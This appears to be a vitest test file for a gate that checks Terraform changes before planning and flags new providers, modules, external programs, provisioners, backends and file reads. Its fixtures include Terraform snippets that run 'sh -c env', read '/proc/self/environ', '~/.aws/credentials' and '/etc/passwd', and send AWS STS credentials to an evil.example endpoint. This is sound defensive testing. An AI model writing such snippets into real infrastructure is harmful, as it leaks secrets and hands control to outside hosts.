// biome-ignore-all lint/suspicious/noTemplateCurlyInString: HCL interpolates with the same signs as JavaScript.
import { describe, expect, test } from "vitest";
import { loadHcl } from "../../src/adapters/hcl-wasm.ts";
import { holdsBeforePlan, standingOf } from "../../src/gate/before-plan.ts";
import type { CodeFolder } from "../../src/gate/surface-item.ts";
import { jsonBlocks } from "../../src/hcl/json-blocks.ts";
import { PLAN_GATE, type PlanGatePolicy } from "../../src/model/plan-gate.ts";

const parse = await loadHcl();
type Files = Readonly<Record<string, string>>;

const folders = (files: Files, root: string): CodeFolder[] => {
  const dirs = [...new Set(Object.keys(files).map((path) => path.slice(0, path.lastIndexOf("/"))))];
  return dirs
    .toSorted((left, right) => Number(right === root) - Number(left === root))
    .map((dir) => ({
      dir,
      root,
      files: Object.entries(files)
        .filter(([path]) => path.slice(0, path.lastIndexOf("/")) === dir)
        .map(([path, text]) => (path.endsWith(".json") ? jsonBlocks(parse, path, text) : parse(path, text))),
    }));
};

interface Case {
  readonly before?: Files;
  readonly head: Files;
  readonly changed?: readonly string[];
  readonly policy?: Partial<PlanGatePolicy>;
}

const told = ({ before = {}, head, changed = [], policy = {} }: Case): readonly string[] =>
  holdsBeforePlan({
    folders: folders(head, "app"),
    standing: standingOf(folders(before, "app")),
    changed,
    policy: { ...PLAN_GATE, ...policy },
  }).map(({ check, path, line, message }) => `${check} ${path}:${line ?? ""} ${message}`);

const main = (text: string): Files => ({ "app/main.tf": `# app\n${text}` });
const needs = (source: string, version = "~> 1.0") =>
  `terraform {\n  required_providers {\n    it = {\n      source  = "${source}"\n      version = "${version}"\n    }\n  }\n}\n`;
const program = (words: string) => `data "external" "it" {\n  program = [${words}]\n}\n`;
const s3 = (key: string, bucket = "states") =>
  `terraform {\n  backend "s3" {\n    bucket = "${bucket}"\n    key    = "${key}"\n  }\n}\n`;

/** What is new, as code, and what is told of it. */
const NEW: readonly (readonly [what: string, head: string, told: RegExp])[] = [
  ["a provider", needs("evil/it"), /^providers app\/main\.tf:4 the provider evil\/it: new$/],
  ["a provider of another registry", needs("evil.example/hashicorp/aws"), /^providers .*evil\.example/],
  [
    "a module of a registry",
    'module "m" {\n  source = "evil/m/aws"\n}',
    /^modules app\/main\.tf:2 .*evil\/m\/aws: new/,
  ],
  ["a module by git", 'module "m" {\n  source = "git::https://evil.example/m.git?ref=v1"\n}', /^modules /],
  ["a module whose source is computed", 'module "m" {\n  source = var.where\n}', /^modules .* computed/],
  [
    "a program",
    program('"sh", "-c", "env"'),
    /^external app\/main\.tf:2 data\.external\.it runs a program: new/,
  ],
  ["a program within a check", `check "c" {\n  ${program('"sh"')}}`, /^external app\/main\.tf:3 /],
  ["a request", 'data "http" "it" {\n  url = "https://evil.example"\n}', /^http /],
  [
    "a provisioner",
    'resource "terraform_data" "it" {\n  provisioner "local-exec" {\n    command = "env"\n  }\n}',
    /^provisioners app\/main\.tf:3 the provisioner local-exec/,
  ],
  [
    "another state",
    'data "terraform_remote_state" "it" {\n  backend = "s3"\n  config = {\n    bucket = "theirs"\n    key = "x"\n  }\n}',
    /^remote_state /,
  ],
  ["a backend", s3("app"), /^backend app\/main\.tf:3 the backend s3: new/],
  ["Terraform Cloud", 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}', /^backend .*cloud: new/],
  [
    "encryption by a command",
    'terraform {\n  encryption {\n    key_provider "external" "it" {\n      command = ["sh"]\n    }\n  }\n}',
    /^backend .*encryption/,
  ],
  [
    "provider_meta",
    'terraform {\n  provider_meta "aws" {\n    id = "x"\n  }\n}',
    /^backend .*provider_meta aws/,
  ],
  [
    "a provider that runs a command",
    'provider "kubernetes" {\n  exec {\n    command = "sh"\n  }\n}',
    /^provider_settings app\/main\.tf:3 the setting exec/,
  ],
  [
    "credentials sent to another host",
    'provider "aws" {\n  endpoints {\n    sts = "https://evil.example"\n  }\n}',
    /^provider_settings .*endpoints/,
  ],
  [
    "a credential process by a file of settings",
    'provider "aws" {\n  shared_config_files = ["./aws"]\n}',
    /^provider_settings .*shared_config_files/,
  ],
  [
    "a file of the machine",
    'locals {\n  x = file("/proc/self/environ")\n}',
    /^files app\/main\.tf:3 file reads a file outside/,
  ],
  ["a file of the home", 'locals {\n  x = file(pathexpand("~/.aws/credentials"))\n}', /^files .*outside/],
  ["a file above the repository", 'locals {\n  x = filebase64("../../secret")\n}', /^files .*outside/],
  ["a file above the module", 'locals {\n  x = file("${path.module}/../../x")\n}', /^files .*outside/],
  ["a file whose name is computed", "locals {\n  x = file(var.x)\n}", /^files .*computed/],
  [
    "a way out that a variable carries",
    'variable "x" {\n  default = "../../../etc/passwd"\n}',
    /^files .*leads out/,
  ],
  [
    "a file by a data source",
    'data "local_file" "it" {\n  filename = "/etc/passwd"\n}',
    /^files .*data\.local_file\.it/,
  ],
  ["code that cannot be read", 'resource "a" "b" {\n  x = = 1\n', /^unreadable app\/main\.tf/],
];

describe("what is new holds the plan up, with its place", () => {
  test.each(NEW)("%s", (_what, head, expected) => {
    expect(told({ head: main(head) })).toContainEqual(expect.stringMatching(expected));
  });
  test.each(NEW.filter(([what]) => !/source is computed/.test(what)))(
    "%s that stands on the protected branch does not",
    (_what, text) => {
      expect(
        told({
          before: main(text),
          head: { ...main(text), "app/more.tf": "locals {\n  y = 1\n}\n" },
          changed: ["app/more.tf"],
        }),
      ).toEqual([]);
    },
  );
});

test("plain code holds nothing up", () => {
  const head = main(
    `${needs("hashicorp/aws")}module "m" {\n  source = "./m"\n}\nresource "aws_s3_bucket" "b" {\n  bucket = "x"\n  policy = file("\${path.module}/policy.json")\n  tags   = { cost = templatefile("cost.tpl", {}) }\n}\nlocals {\n  up = "../app/x"\n  log = "/var/lib/app"\n}\n`,
  );
  expect(told({ head })).toEqual([]);
});

describe("providers that nobody declares", () => {
  const strict = { allowProviders: [] };
  test("are those that the engine would fetch", () => {
    expect(told({ head: main('resource "evil_thing" "it" {}\n'), policy: strict })).toEqual([
      "providers app/main.tf:2 the provider hashicorp/evil: new",
    ]);
    expect(told({ head: main('data "x_y" "it" {\n  provider = evil.other\n}\n'), policy: strict })).toEqual([
      expect.stringContaining("hashicorp/evil"),
    ]);
  });
  test("built-in ones are not", () => {
    expect(told({ head: main('resource "terraform_data" "it" {}\n'), policy: strict })).toEqual([]);
  });
});

describe("another version", () => {
  const before = main(needs("acme/it"));
  const head = main(needs("acme/it", "~> 2.0"));
  test("of a provider is let through, unless the operator says otherwise", () => {
    expect(told({ before, head })).toEqual([]);
    const checks = { ...PLAN_GATE.checks, versions: "deny" as const };
    expect(told({ before, head, policy: { checks } })).toEqual([
      expect.stringMatching(/^versions .*~> 2\.0/),
    ]);
  });
  test("of a module by git is another module: a fork's commit can be named so", () => {
    const of = (ref: string) =>
      main(`module "m" {\n  source = "git::https://github.com/acme/m?ref=${ref}"\n}\n`);
    expect(told({ before: of("v1"), head: of("0123abc") })).toHaveLength(1);
  });
});

describe("lists of the operator", () => {
  const head = main(
    `${needs("acme/it")}module "m" {\n  source = "git::https://github.com/acme/m?ref=v1"\n}\n`,
  );
  const policy = { allowProviders: ["acme/*"], allowModules: ["git::https://github.com/acme/*"] };
  test("let their own pass", () => expect(told({ head, policy })).toEqual([]));
  test("are not fooled by a way up or by another host", () => {
    for (const source of [
      "git::https://github.com/acme/../evil/m",
      "git::https://evil.example/?x=github.com/acme/m",
    ])
      expect(told({ head: main(`module "m" {\n  source = "${source}"\n}\n`), policy })).toHaveLength(1);
  });
});

describe("a program that stands", () => {
  const text = program('"python3", "${path.module}/price.py"');
  const held = (changed: string, code = text) =>
    told({ before: main(code), head: main(code), changed: [changed] });
  test("is another one when its file changes, or any beside it", () => {
    expect(held("app/price.py")).toEqual([expect.stringContaining("may run app/price.py")]);
    expect(held("app/lib/prices.csv")).toHaveLength(1);
    expect(
      told({ before: main(program('"bin/look"')), head: main(program('"bin/look"')), changed: ["bin/look"] }),
    ).toHaveLength(1);
  });
  test("is the same when its own code or a text for people changes", () => {
    expect(held("app/other.tf")).toEqual([]);
    expect(held("app/README.md")).toEqual([]);
    expect(held("web/index.js")).toEqual([]);
  });
  test("is another one when the values that name it may change", () => {
    expect(held("app/terraform.tfvars", program("var.tool"))).toEqual([
      expect.stringContaining("takes values from elsewhere, and app/terraform.tfvars changes"),
    ]);
  });
});

describe("states", () => {
  test("a new root in a known store is planned", () => {
    expect(told({ before: { "old/main.tf": s3("old") }, head: main(s3("app")) })).toEqual([]);
  });
  test("another root's state is not taken over", () => {
    expect(told({ before: { "old/main.tf": s3("old") }, head: main(s3("old")) })).toEqual([
      expect.stringContaining("holds the state of old"),
    ]);
  });
  test("a known root keeps its state", () => {
    expect(told({ before: main(s3("app")), head: main(s3("else")) })).toEqual([
      expect.stringContaining("another one than before"),
    ]);
    expect(told({ before: main(s3("app")), head: main("") })).toEqual([expect.stringContaining("is gone")]);
  });
  test("a neighbour's outputs in a known store may be read", () => {
    const read =
      'data "terraform_remote_state" "it" {\n  backend = "s3"\n  config = {\n    bucket = "states"\n    key    = "net"\n  }\n}\n';
    expect(told({ before: { "net/main.tf": s3("net") }, head: main(read) })).toEqual([]);
  });
  test("addresses over HTTP are told apart by their host", () => {
    const read = (url: string) =>
      main(
        `data "terraform_remote_state" "it" {\n  backend = "http"\n  config = {\n    address = "${url}"\n  }\n}\n`,
      );
    const before = read("https://states.example/a");
    expect(told({ before, head: read("https://states.example/b") })).toEqual([]);
    expect(told({ before, head: read("https://states.example.evil.example/b") })).toHaveLength(1);
  });
});

describe("it counts wherever it stands", () => {
  test("in local modules and override files", () => {
    const files = { ...main(""), "modules/m/main_override.tf": program('"sh"') };
    expect(told({ head: files })).toEqual([
      expect.stringMatching(/^external modules\/m\/main_override\.tf:1/),
    ]);
  });
  test("in JSON", () => {
    const json = {
      terraform: { required_providers: { it: { source: "evil/it" } }, backend: { s3: { bucket: "x" } } },
      data: {
        external: { it: { program: ["sh"] } },
        local_file: { it: { filename: '${pathexpand("~/x")}' } },
      },
      resource: { terraform_data: { it: { provisioner: [{ "local-exec": { command: "env" } }] } } },
      module: { m: { source: "evil/m/aws" } },
      check: { c: { data: { http: { it: { url: "https://evil.example" } } } } },
      provider: { kubernetes: [{ exec: { command: "sh" } }] },
      locals: { x: 'it is ${file("/etc/passwd")}' },
    };
    const found = told({ head: { "app/main.tf.json": JSON.stringify(json, null, 1) } });
    expect([...new Set(found.map((line) => line.split(" ")[0]))].toSorted()).toEqual([
      "backend",
      "external",
      "files",
      "http",
      "modules",
      "provider_settings",
      "providers",
      "provisioners",
    ]);
    expect(told({ head: { "app/main.tf.json": "{" } })).toEqual([expect.stringMatching(/^unreadable/)]);
  });
  test("in files of variables, where code reads files with computed names", () => {
    const code = main("locals {\n  x = file(var.x)\n}\n");
    const head = { ...code, "app/terraform.tfvars": 'x = "/root/.aws/credentials"\n' };
    expect(told({ before: code, head })).toEqual([expect.stringMatching(/^files app\/terraform\.tfvars:1/)]);
    expect(told({ head: { "app/main.tf": "", "app/terraform.tfvars": 'x = "/etc/app"\n' } })).toEqual([]);
  });
});
